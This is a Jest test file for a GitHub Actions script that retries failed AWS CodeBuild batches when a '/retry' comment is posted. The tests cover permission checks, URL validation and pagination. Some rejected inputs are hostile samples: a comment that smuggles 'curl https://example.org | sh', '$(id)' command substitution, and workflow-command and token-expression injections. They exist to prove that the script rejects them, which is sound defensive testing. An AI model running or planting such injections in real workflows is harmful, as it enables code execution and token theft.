import { createServer } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { getOctokit } from '@actions/github';
import { HOSTILE } from '../support/hostile.ts';
import { listen, textOf } from '../support/sockets.ts';
import { testAll } from '../support/test-all.ts';
import { read } from './files.ts';
import { stepsOf, workflowOf } from './workflow-rules.ts';

const WORKFLOW = workflowOf('retry-from-comment.yml', read('examples/retry-from-comment.yml'));
const SCRIPT = stepsOf(WORKFLOW).find(({ id }) => id === 'find')?.with?.['script'] as string;

const HEAD = 'c0ffee00c0ffee00c0ffee00c0ffee00c0ffee00';
const CONSOLE =
  'https://eu-west-1.console.aws.amazon.com/codesuite/codebuild/123456789012/projects';
const CONTEXT = 'AWS CodeBuild BuildBatch eu-west-1';

interface Status {
  readonly state: string;
  readonly context: string;
  readonly target_url: string | null;
}

const red = (project: string, more: Partial<Status> = {}): Status => ({
  state: 'failure',
  context: `${CONTEXT} (${project})`,
  target_url: urlOf(project),
  ...more,
});

function urlOf(project: string): string {
  return `${CONSOLE}/${project}/batch/${project}%3A0000/builds?region=eu-west-1`;
}

/** GitHub's REST API as far as the script asks it. */
let statuses: readonly Status[];
let permissions: Readonly<Record<string, string>>;
let requests: string[];
const server = createServer((incoming, response) => {
  void textOf(incoming).then((body) => {
    const { pathname, searchParams } = new URL(incoming.url ?? '', url);
    requests.push(`${incoming.method ?? ''} ${pathname} ${body}`.trim());
    const answer = (content: unknown): void => {
      response.setHeader('content-type', 'application/json');
      response.end(JSON.stringify(content));
    };
    const [, user = ''] = /\/collaborators\/([^/]+)\/permission$/.exec(pathname) ?? [];
    if (user !== '') answer({ permission: permissions[user] ?? 'none', role_name: 'write' });
    else if (pathname.endsWith('/pulls/7')) answer({ head: { sha: HEAD } });
    else if (pathname.endsWith(`/commits/${HEAD}/statuses`)) {
      const page = Number(searchParams.get('page') ?? 1);
      const size = Number(searchParams.get('per_page'));
      const next = `${url}${pathname}?per_page=${size}&page=${page + 1}`;
      if (page * size < statuses.length) response.setHeader('link', `<${next}>; rel="next"`);
      const shown = statuses.slice((page - 1) * size, page * size);
      answer(shown);
    } else if (pathname.endsWith('/reactions')) {
      response.statusCode = 201;
      answer({});
    } else {
      response.statusCode = 404;
      answer({ message: 'Not Found' });
    }
  });
});
let url: string;
let close: () => Promise<void>;

beforeAll(async () => {
  ({ url, close } = await listen(server));
});
afterAll(() => close());
beforeEach(() => {
  statuses = [];
  permissions = { writer: 'write' };
  requests = [];
});

interface Run {
  readonly outputs: Readonly<Record<string, unknown>>;
  /** What it logged. */
  readonly said: readonly string[];
}

/** Runs the script as actions/github-script does: a function of a client, an event and @actions/core. */
async function run(event: Readonly<Record<string, unknown>>): Promise<Run> {
  const outputs: Record<string, unknown> = {};
  const said: string[] = [];
  const say = (kind: string) => (message: string) => void said.push(`${kind}: ${message}`);
  const core = {
    setOutput: (name: string, value: unknown) => void (outputs[name] = value),
    setFailed: say('failed'),
    warning: say('warning'),
    notice: say('notice'),
  };
  const context = {
    repo: { owner: 'octo-org', repo: 'shop' },
    issue: { number: 7 },
    payload: event,
  };
  const given = {
    github: getOctokit('token', { baseUrl: url }),
    context,
    core,
    process: { env: { AWS_REGION: 'eu-west-1' } },
  };
  const AsyncFunction = (async () => Promise.resolve()).constructor as new (
    ...parts: string[]
  ) => (...values: unknown[]) => Promise<unknown>;
  await new AsyncFunction(...Object.keys(given), SCRIPT)(...Object.values(given));
  return { outputs, said };
}

async function comment(body: string, login = 'writer', type = 'User'): Promise<Run> {
  const association = 'MEMBER';
  return run({ comment: { id: 1, body, user: { login, type }, author_association: association } });
}

const reactions = (): string[] =>
  requests.flatMap((request) => /reactions \{"content":"(.*)"\}$/.exec(request)?.[1] ?? []);

describe('the comment /retry', () => {
  test.each(['/retry', '  /retry\r\n', '\t/retry\n\n'])('is %j', async (body) => {
    statuses = [red('web'), red('api', { state: 'error' })];
    expect(await comment(body)).toEqual({
      outputs: { batches: [urlOf('web'), urlOf('api')] },
      said: [],
    });
    expect(reactions()).toEqual(['rocket']);
  });

  testAll([
    '/retry please',
    '/retry web',
    '> /retry',
    '/RETRY',
    'do not /retry',
    '/retry\n/retry',
    '`/retry`',
    '',
    '/retry"; curl https://example.org | sh; "',
    '/retry\n::set-output name=batches::[1]',
  ])('is none of these: nothing is asked, answered or logged', async (body) => {
    statuses = [red('web')];
    expect(await comment(body)).toEqual({ outputs: {}, said: [] });
    expect(requests).toEqual([]);
  });

  test('is not the beginning of hostile text', async () => {
    for (const [, text] of HOSTILE) {
      expect(await comment(`/retry ${text} end`)).toEqual({ outputs: {}, said: [] });
    }
    expect(requests).toEqual([]);
  });

  test('of a bot is ignored', async () => {
    expect(await comment('/retry', 'writer', 'Bot')).toEqual({ outputs: {}, said: [] });
    expect(requests).toEqual([]);
  });

  test.each(['admin', 'maintain', 'write'])(
    'of someone with the permission %s counts',
    async (permission) => {
      permissions = { someone: permission };
      statuses = [red('web')];
      expect((await comment('/retry', 'someone')).outputs).toEqual({ batches: [urlOf('web')] });
    },
  );

  test.each(['triage', 'read', 'none', 'Write', ''])(
    'of someone with the permission "%s" does not, whatever their association',
    async (permission) => {
      permissions = { someone: permission };
      statuses = [red('web')];
      const { outputs } = await comment('/retry', 'someone');
      expect(outputs).toEqual({});
      expect(requests).toEqual([
        'GET /repos/octo-org/shop/collaborators/someone/permission',
        'POST /repos/octo-org/shop/issues/comments/1/reactions {"content":"-1"}',
      ]);
    },
  );

  test('takes the head commit from the API', async () => {
    await comment('/retry');
    expect(requests.slice(0, 3)).toEqual([
      'GET /repos/octo-org/shop/collaborators/writer/permission',
      'GET /repos/octo-org/shop/pulls/7',
      `GET /repos/octo-org/shop/commits/${HEAD}/statuses`,
    ]);
  });
});

describe('the red batches', () => {
  test('may be none, which is no error', async () => {
    statuses = [red('web', { state: 'success' }), red('api', { state: 'pending' })];
    expect(await comment('/retry')).toEqual({
      outputs: { batches: [] },
      said: [`notice: No CodeBuild batch of commit ${HEAD} is red.`],
    });
    expect(reactions()).toEqual(['confused']);
  });

  testAll<[Partial<Status>]>([
    ['a context of another tool', { context: `lint ${CONTEXT}` }],
    ['a single build', { context: 'AWS CodeBuild eu-west-1 (web)' }],
    ['no URL', { target_url: null }],
    ['another host', { target_url: `https://example.org/?${urlOf('web')}` }],
    [
      'a host that begins like the console',
      { target_url: 'https://console.aws.amazon.com.example.org/codesuite/codebuild/' },
    ],
    ['another region', { target_url: urlOf('web').replace('eu-west-1', 'us-east-1') }],
    ['no TLS', { target_url: urlOf('web').replace('https', 'http') }],
    ['a command in the URL', { target_url: `${urlOf('web')}$(id)` }],
    ['a line break in the URL', { target_url: `${urlOf('web')}\n::error::gone` }],
    ['an expression in the URL', { target_url: `${urlOf('web')}\${{ github.token }}` }],
    ['another service', { target_url: urlOf('web').replace('codebuild', 'codepipeline') }],
  ])('are none of those with one of these', async (_, more) => {
    statuses = [red('web', more)];
    expect((await comment('/retry')).outputs).toEqual({ batches: [] });
  });

  test('are each taken once, also without a region in the host', async () => {
    const plain = urlOf('api').replace('eu-west-1.', '');
    statuses = [
      red('web'),
      red('web', { context: `${CONTEXT} (copy)` }),
      red('api', { target_url: plain }),
    ];
    expect((await comment('/retry')).outputs).toEqual({ batches: [urlOf('web'), plain] });
  });

  test('are found in every partition', async () => {
    const domains = ['aws.amazon.com', 'amazonaws.cn', 'amazonaws-us-gov.com', 'amazonaws-eusc.eu'];
    const urls = domains.map((domain) => urlOf('web').replace('aws.amazon.com', domain));
    statuses = urls.map((target_url, index) => red(`project-${index}`, { target_url }));
    expect((await comment('/retry')).outputs).toEqual({ batches: urls });
  });

  test('are those of the newest status of each context', async () => {
    statuses = [
      red('web', { state: 'success' }),
      red('web'),
      red('api'),
      red('api', { state: 'success', target_url: urlOf('api').replace('0000', '1111') }),
    ];
    expect((await comment('/retry')).outputs).toEqual({ batches: [urlOf('api')] });
  });

  test('are found behind a status that links to the run of an earlier retry', async () => {
    const run = 'https://github.com/octo-org/shop/actions/runs/1';
    statuses = [
      red('web', { target_url: run }),
      red('web', { state: 'pending', target_url: run }),
      red('web'),
      red('web', { target_url: urlOf('web').replace('0000', '1111') }),
    ];
    expect((await comment('/retry')).outputs).toEqual({ batches: [urlOf('web')] });
  });

  test('are found on all pages, and 256 of them at most are retried', async () => {
    statuses = Array.from({ length: 301 }, (_, index) => red(`project-${index}`));
    const { outputs, said } = await comment('/retry');
    expect(outputs['batches']).toEqual(statuses.slice(0, 256).map((status) => status.target_url));
    expect(said).toEqual(['warning: 301 batches are red. The first 256 of them are retried.']);
    expect(requests.filter((request) => request.endsWith('/statuses'))).toHaveLength(4);
  });
});

describe('by hand', () => {
  test('it takes a commit, and reacts to nothing', async () => {
    statuses = [red('web')];
    expect((await run({ inputs: { commit: ` ${HEAD} ` } })).outputs).toEqual({
      batches: [urlOf('web')],
    });
    expect(requests).toEqual([`GET /repos/octo-org/shop/commits/${HEAD}/statuses`]);
  });

  testAll(['main', 'c0ffee', '../../pulls/7', 'c0ffee00/../x', ''])(
    'it refuses each of these as a commit',
    async (commit) => {
      expect(await run({ inputs: { commit } })).toEqual({
        outputs: {},
        said: ['failed: commit must be a SHA: 7 to 64 digits 0-9 and a-f.'],
      });
      expect(requests).toEqual([]);
    },
  );
});
